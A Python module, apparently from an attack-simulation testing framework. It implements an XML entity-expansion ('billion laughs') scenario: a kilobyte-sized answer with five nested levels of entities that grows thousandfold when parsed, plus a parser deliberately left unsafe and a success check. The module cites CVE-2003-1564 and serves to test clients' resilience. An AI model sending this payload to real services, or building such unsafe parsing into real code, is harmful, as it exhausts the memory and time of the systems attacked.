"""D5 on requests: nested XML entities expand to thousands of times the document's size."""

from xml.etree import ElementTree as ET

from backwatch.attack.techniques.document import ReadsDocuments

LEVELS, EACH = 5, 10
_GROWN = b"".join(
    b'<!ENTITY l%d "%s">' % (level + 1, b"&l%d;" % level * EACH) for level in range(LEVELS)
)  # fmt: skip


class HttpXmlEntities(ReadsDocuments):
    """ElementTree expands them. Today's expat stops at 8 MiB, which many documents at once exceed as well."""

    attack = "answers with an XML document of a kilobyte that becomes megabytes when it is read"
    reference = "CVE-2003-1564; https://docs.python.org/3/library/xml.html#xml-security; ATT&CK T1499.004"
    notices = "memory and time that a small answer takes"
    hostile = (
        b'<?xml version="1.0"?><!DOCTYPE rates [<!ENTITY l0 "EUR and USD ">'
        + _GROWN
        + b"]><rates>&l%d;</rates>" % LEVELS
    )

    def read(self, text: bytes) -> object:
        """Return the length of the document's text."""
        return len("".join(ET.fromstring(text).itertext()))  # noqa: S314  the scenario is about this risk

    @classmethod
    def has_succeeded(cls, service: object, got: object) -> bool:
        """Return whether the text grew a thousandfold."""
        del service
        return isinstance(got, int) and got > 1_000 * len(cls.hostile)
